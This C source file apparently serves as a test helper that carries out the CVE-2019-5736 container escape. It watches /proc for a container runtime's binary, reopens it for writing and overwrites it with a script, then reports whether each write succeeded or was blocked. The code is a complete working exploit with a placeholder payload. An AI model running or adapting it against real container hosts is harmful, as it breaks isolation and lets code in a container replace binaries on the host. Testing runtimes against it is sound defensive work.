/* The CVE-2019-5736 attacker, run inside a container: watch /proc for
 * processes whose executable is neither this program nor busybox (a
 * runtime's binary, exec'd into the container through `#!/proc/self/exe`),
 * keep a handle to it, and try to reopen it for writing until it works or
 * the time is up.  Prints one line per process it got hold of:
 *   "wrote PID"           the runtime's binary was overwritten (escape)
 *   "blocked PID ERRNO"   the write or open was refused for good
 * Usage: exe_attack SECONDS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

struct held
{
  int fd;
  int pid;
  int done;
};

static int
same_file (const struct stat *a, const struct stat *b)
{
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int
main (int argc, char **argv)
{
  struct held held[MAX_HELD];
  int n_held = 0, seen[65536] = { 0 };
  struct stat self, busybox;
  double end = now () + (argc > 1 ? atof (argv[1]) : 10);

  setvbuf (stdout, NULL, _IOLBF, 0);
  if (stat ("/proc/self/exe", &self) < 0 || stat ("/bin/busybox", &busybox) < 0)
    return 2;
  printf ("ready\n");
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;
      while (d && (de = readdir (d)) != NULL)
        {
          char path[64];
          struct stat st;
          int pid = atoi (de->d_name), fd;
          if (pid <= 1 || pid == getpid () || pid >= 65536 || seen[pid] || n_held == MAX_HELD)
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          fd = open (path, O_PATH | O_CLOEXEC);
          if (fd < 0)
            continue;
          if (fstat (fd, &st) < 0 || same_file (&st, &self) || same_file (&st, &busybox))
            {
              close (fd);
              continue;
            }
          seen[pid] = 1;
          held[n_held++] = (struct held){ fd, pid, 0 };
        }
      if (d)
        closedir (d);
      for (int i = 0; i < n_held; i++)
        {
          char path[64];
          int w;
          if (held[i].done)
            continue;
          snprintf (path, sizeof path, "/proc/self/fd/%d", held[i].fd);
          w = open (path, O_WRONLY | O_CLOEXEC);
          if (w < 0 && errno == ETXTBSY)
            continue; /* still running: try again */
          if (w >= 0 && pwrite (w, "#!/bin/sh\necho pwned\n", 21, 0) == 21)
            printf ("wrote %d\n", held[i].pid);
          else
            printf ("blocked %d %d\n", held[i].pid, errno);
          if (w >= 0)
            close (w);
          held[i].done = 1;
        }
    }
  return 0;
}
